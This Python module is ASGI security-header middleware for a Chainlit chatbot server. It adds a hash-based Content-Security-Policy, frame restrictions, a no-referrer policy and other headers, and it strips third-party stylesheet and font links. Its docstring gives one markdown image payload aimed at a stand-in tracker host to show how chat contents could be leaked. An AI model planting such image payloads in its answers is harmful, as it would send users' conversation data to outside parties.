"""Security headers on every response of Chainlit's server, and a page that loads nothing from third parties.

Chainlit 2.12 sends no Content-Security-Policy, X-Frame-Options or Referrer-Policy, so any website
can frame the bot and any image in an answer (`![](https://tracker.example/p.gif?leak=...)`) is
fetched by the customer's browser with the conversation's URL as Referer. Its page also links
KaTeX's stylesheet on cdn.jsdelivr.net and preconnects to Google Fonts on every visit (LaTeX is
off and the fonts are not used). This ASGI layer, outermost on Chainlit's app (so request_guard's
refusals carry the headers too), adds:

- on Chainlit's page: a full CSP whose `script-src` allows the page's own files plus the exact
  inline scripts Chainlit writes into it (by hash, so no 'unsafe-inline' or 'unsafe-eval'), whose
  `img-src` allows the bot itself and the brand's IMAGE_HOSTS only, and with every third-party
  `<link>` removed from the HTML;
- on every other response (SVG logos and favicons, `/public/*`, JSON): a CSP that lets a
  document made from it run nothing (`default-src 'none'; sandbox`), so a hostile SVG opened
  directly cannot script the bot's origin;
- everywhere: frame-ancestors / X-Frame-Options, nosniff, `Referrer-Policy: no-referrer`,
  Cross-Origin-Opener-Policy and a Permissions-Policy that grants no device.

"""

from __future__ import annotations

import base64
import gzip
import hashlib
import os
import re
from collections.abc import Awaitable, Callable, Iterable, MutableMapping
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]

#: Paths that serve files rather than Chainlit's page: an HTML file among them gets the inert policy.
FILE_PREFIXES = ("/public/", "/assets/", "/copilot/", "/project/", "/avatars/", "/logo", "/favicon")

#: The page's inline scripts (no src attribute) and the links to other hosts (KaTeX, Google Fonts).
_INLINE_SCRIPT = re.compile(rb"<script\b(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script\s*>", re.DOTALL | re.IGNORECASE)
_THIRD_PARTY_LINK = re.compile(rb"[ \t]*<link\b[^>]*\bhref\s*=\s*[\"']?(?:https?:)?//[^>]*>[ \t]*\n?",
                               re.IGNORECASE)

#: A document made from anything but the page (an SVG logo opened in a tab, a JSON answer) runs nothing.
INERT_POLICY = "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; sandbox"

#: No device, sensor or payment API for the page or anything it frames.
PERMISSIONS_POLICY = ("accelerometer=(), camera=(), display-capture=(), geolocation=(), gyroscope=(), "
                      "magnetometer=(), microphone=(), payment=(), usb=()")


def script_hash(source: bytes) -> str:
    """The CSP source expression that allows exactly this inline script."""
    return "'sha256-" + base64.b64encode(hashlib.sha256(source).digest()).decode("ascii") + "'"


def without_third_party_links(html: bytes) -> bytes:
    """Chainlit's page without its `<link>`s to other hosts (KaTeX's CSS, Google Fonts preconnects)."""
    return _THIRD_PARTY_LINK.sub(b"", html)


@dataclass(frozen=True)
class Policy:
    """What the page may load and who may frame it.

    `frame_ancestors` holds origins besides the bot's own that may frame it: the brand's website
    origins (see `policy_for`). X-Frame-Options stays SAMEORIGIN for old browsers: browsers that
    know frame-ancestors ignore it.
    """

    image_hosts: tuple[str, ...] = ()
    frame_ancestors: tuple[str, ...] = field(default=())

    def page_csp(self, inline_scripts: Iterable[bytes]) -> str:
        """The CSP of Chainlit's page, allowing its own inline scripts by hash.

        img-src keeps `data:` (Chainlit's stylesheet draws icons as data: SVGs; without it Chromium
        reports violations) and `blob:` (previews the page makes of files in memory): neither can
        reach the network, so neither can leak. style-src needs 'unsafe-inline': Chainlit's components
        apply inline styles at run time (Chromium blocks them otherwise); styles cannot run script.
        """
        hashes = sorted({script_hash(source) for source in inline_scripts})
        directives = [
            "default-src 'self'",
            " ".join(["script-src 'self'", *hashes]),
            "style-src 'self' 'unsafe-inline'",
            " ".join(["img-src 'self' data: blob:", *self.image_hosts]),
            "font-src 'self'",
            "connect-src 'self'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
            self.frame_ancestors_directive(),
        ]
        return "; ".join(directives)

    def frame_ancestors_directive(self) -> str:
        """`frame-ancestors 'self'` plus any allowed site origins."""
        return " ".join(["frame-ancestors 'self'", *self.frame_ancestors])

    def common_headers(self) -> list[tuple[bytes, bytes]]:
        """The headers every response carries."""
        return [
            (b"x-content-type-options", b"nosniff"),
            (b"x-frame-options", b"SAMEORIGIN"),
            (b"referrer-policy", b"no-referrer"),
            (b"cross-origin-opener-policy", b"same-origin"),
            (b"permissions-policy", PERMISSIONS_POLICY.encode("ascii")),
        ]


def policy_for(settings: Any) -> Policy:
    """The policy of a deployment: the brand's image hosts and website origins (IMAGE_HOSTS and
    ALLOWED_ORIGINS override brand.toml); the website's pages may frame the chat."""
    return Policy(image_hosts=tuple(getattr(settings, "image_hosts", ())),
                  frame_ancestors=tuple(getattr(settings, "allowed_origins", ())))


@lru_cache(maxsize=1)
def current_policy() -> Policy:
    """This process's policy; with unusable settings the strictest one (the chat refuses to run anyway)."""
    from .settings import ConfigurationError, current_settings

    settings = current_settings()
    return Policy() if isinstance(settings, ConfigurationError) else policy_for(settings)


@lru_cache(maxsize=1)
def chainlit_page_scripts() -> frozenset[bytes]:
    """The inline scripts of Chainlit's page, read once from the template Chainlit builds it from.

    The page's CSP allows exactly these (by hash), never whatever a response body happens to hold,
    so a script that found its way into a served page still would not run. The page is the same for
    the whole process (it changes only with public/theme.json, read at start-up here as by Chainlit's
    own caching of the config).
    """
    from chainlit.server import get_html_template

    root_path = os.getenv("CHAINLIT_PARENT_ROOT_PATH", "") + os.getenv("CHAINLIT_ROOT_PATH", "")
    page = get_html_template(root_path).encode("utf-8")
    return frozenset(match.group(1) for match in _INLINE_SCRIPT.finditer(page))


def _header(headers: list[tuple[bytes, bytes]], name: bytes) -> bytes:
    return next((value for key, value in headers if key.lower() == name), b"")


def _replace(headers: list[tuple[bytes, bytes]], extra: list[tuple[bytes, bytes]]) -> list[tuple[bytes, bytes]]:
    """`headers` with every header named in `extra` replaced by extra's value."""
    names = {key for key, _ in extra}
    return [(key, value) for key, value in headers if key.lower() not in names] + extra


class SecurityHeaders:
    """ASGI middleware adding the headers above; it buffers only Chainlit's page (about 2 KB)."""

    def __init__(self, app: ASGIApp, policy: Callable[[], Policy] = current_policy,
                 page_scripts: Callable[[], frozenset[bytes]] | None = None) -> None:
        self.app = app
        self.policy = policy
        self.page_scripts = page_scripts or chainlit_page_scripts

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        policy = self.policy()
        is_file_path = str(scope.get("path", "")).startswith(FILE_PREFIXES)
        held: Message | None = None
        body = bytearray()

        async def send_with_headers(message: Message) -> None:
            nonlocal held
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                content_type = _header(headers, b"content-type").lower()
                if content_type.startswith(b"text/html") and not is_file_path:
                    held = message  # the page: its CSP depends on its body
                    return
                extra = policy.common_headers()
                if b"javascript" not in content_type:  # a worker's script takes its CSP from its response
                    csp = INERT_POLICY + "; " + policy.frame_ancestors_directive()
                    extra.append((b"content-security-policy", csp.encode("ascii")))
                message["headers"] = _replace(headers, extra)
                await send(message)
            elif message["type"] == "http.response.body" and held is not None:
                body.extend(message.get("body", b""))
                if message.get("more_body", False):
                    return
                headers = list(held.get("headers", []))
                page = without_third_party_links(_decoded(headers, bytes(body)))
                csp = policy.page_csp(self.page_scripts())
                extra = [*policy.common_headers(), (b"content-security-policy", csp.encode("ascii")),
                         (b"content-length", str(len(page)).encode("ascii"))]
                held["headers"] = _replace([item for item in headers if item[0].lower() != b"content-encoding"],
                                           extra)
                await send(held)
                await send({"type": "http.response.body", "body": page, "more_body": False})
            else:
                await send(message)

        await self.app(scope, receive, send_with_headers)


def _decoded(headers: list[tuple[bytes, bytes]], body: bytes) -> bytes:
    """The page's HTML: Chainlit's gzip layer (inside this one) compresses it for browsers that accept gzip.

    The page is sent on uncompressed (about 2 KB); any other encoding would be a Chainlit change this
    code does not know, so it fails loudly rather than hash compressed bytes.
    """
    encoding = _header(headers, b"content-encoding").strip().lower()
    if encoding in (b"", b"identity"):
        return body
    if encoding == b"gzip":
        return gzip.decompress(body)
    raise RuntimeError(f"cannot read Chainlit's page in content-encoding {encoding.decode('latin-1')!r}")


def install(app: Any) -> None:
    """Add the layer outermost on Chainlit's Starlette app (before the app starts serving), so every
    route, the socket.io mount and the refusals of layers installed before it included, passes through it."""
    if app.middleware_stack is not None:
        raise RuntimeError("security headers must be installed before Chainlit's server starts")
    app.add_middleware(SecurityHeaders)
